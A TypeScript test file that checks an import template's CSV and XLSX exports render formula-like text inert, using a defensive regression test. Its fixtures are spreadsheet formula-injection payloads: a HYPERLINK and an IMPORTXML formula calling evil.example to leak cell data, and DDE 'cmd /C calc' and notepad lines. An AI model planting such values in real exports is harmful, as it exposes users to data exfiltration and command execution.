// The import template is opened in a spreadsheet program. Text in it that
// begins like a formula (=, +, -, @, or a tab or carriage return before one)
// must arrive as text, never run: in the CSV it is written behind an
// apostrophe, and in the XLSX as a string cell with no formula anywhere.
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";

const isolated = await vi.hoisted(async () => {
  const { isolateDatabase } = await import("./isolated-db");
  return isolateDatabase("import-template-formulas");
});

import ExcelJS from "exceljs";
import JSZip from "jszip";
import Papa from "papaparse";
import { templateCsv, templateXlsx, type ImportUnit } from "@/features/import/service";
import { db } from "@/lib/server/db";
import { parsePeriod, periodEnd } from "@/lib/domain/period";
import { closeSnapshot, expectSnapshotInUse } from "./isolated-db";

const PERIOD = "2019-Q1";

// One name per way a spreadsheet starts a formula; each would reach out or compute if run.
const NAMES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Xem")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];
const SOURCE_TITLE = '=IMPORTXML("http://evil.example","//a")';
const NOTE = "+cmd|' /C notepad'!A0";
/** A unit handle is written too; the template takes whatever the unit is called. */
const SLUG = "-1-1";

let unit: ImportUnit;
let renamed: Array<{ code: string; name: string }>;

beforeAll(async () => {
  await expectSnapshotInUse(isolated, db);
  unit = await db.province.findUniqueOrThrow({ where: { slug: "an-giang" }, select: { id: true, slug: true, nameVi: true, validFrom: true, validTo: true } });
  const indicators = await db.indicator.findMany({ select: { id: true, code: true }, orderBy: [{ pillar: { sortOrder: "asc" } }, { sortOrder: "asc" }], take: NAMES.length });
  renamed = await Promise.all(
    indicators.map(async (indicator, i) => {
      await db.indicator.update({ where: { id: indicator.id }, data: { nameVi: NAMES[i]! } });
      return { code: indicator.code, name: NAMES[i]! };
    }),
  );
  // A stored figure, so its source and note are written into the template as well.
  const source = await db.source.create({ data: { key: "it-formula-source", kind: "REPORT", title: SOURCE_TITLE } });
  await db.report.create({ data: { provinceId: unit.id, period: PERIOD, status: "DRAFT" } });
  await db.observation.create({
    data: { provinceId: unit.id, indicatorId: indicators[0]!.id, period: PERIOD, periodEnd: periodEnd(parsePeriod(PERIOD)!), value: 12.5, sourceId: source.id, note: NOTE },
  });
});

afterAll(async () => {
  await closeSnapshot(isolated, db);
});

const FORMULA_START = /^[=+\-@\t\r]/;

describe("the CSV template", () => {
  it("writes every cell that begins like a formula behind an apostrophe, and keeps the rest of its text", async () => {
    const text = await templateCsv({ ...unit, slug: SLUG }, PERIOD);
    const rows = Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter: ",", skipEmptyLines: true }).data;
    const [header, ...body] = rows;
    expect(header).toHaveLength(8);
    // Nothing in the file starts a formula.
    for (const cell of rows.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);

    const byCode = new Map(body.map((row) => [row[1], row]));
    for (const { code, name } of renamed) {
      const row = byCode.get(code)!;
      expect(row[0]).toBe(`'${SLUG}`);
      expect(row[2]).toBe(`'${name}`);
    }
    const withFigure = byCode.get(renamed[0]!.code)!;
    expect(withFigure[5]).toBe("12,5");
    expect(withFigure[6]).toBe(`'${SOURCE_TITLE}`);
    expect(withFigure[7]).toBe(`'${NOTE}`);
  });
});

describe("the XLSX template", () => {
  it("stores such text as plain string cells, unchanged, with no formula in any sheet", async () => {
    const bytes = await templateXlsx({ ...unit, slug: SLUG }, PERIOD);

    const zip = await JSZip.loadAsync(bytes);
    const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
    expect(sheets.length).toBeGreaterThanOrEqual(1);
    for (const name of sheets) {
      const xml = await zip.file(name)!.async("string");
      expect(xml, name).not.toMatch(/<f[\s>/]/);
      // A cell of type "str" is a formula's cached result; "e" an error from one.
      expect(xml, name).not.toMatch(/<c [^>]*\bt="(str|e)"/);
    }

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const rows = new Map<string, ExcelJS.Row>();
    sheet.eachRow((row, number) => {
      if (number > 1) rows.set(String(row.getCell(2).value), row);
    });
    const expectText = (cell: ExcelJS.Cell, text: string) => {
      expect(cell.type, `${cell.address} ${JSON.stringify(text)}`).toBe(ExcelJS.ValueType.String);
      // XML reads a bare carriage return back as a line feed; either way the cell stays text.
      expect(cell.value).toBe(text.replace(/\r/g, "\n"));
    };
    for (const { code, name } of renamed) {
      const row = rows.get(code)!;
      expectText(row.getCell(1), SLUG);
      expectText(row.getCell(3), name);
    }
    const withFigure = rows.get(renamed[0]!.code)!;
    expect(withFigure.getCell(6).value).toBe(12.5);
    expectText(withFigure.getCell(7), SOURCE_TITLE);
    expectText(withFigure.getCell(8), NOTE);
  });
});
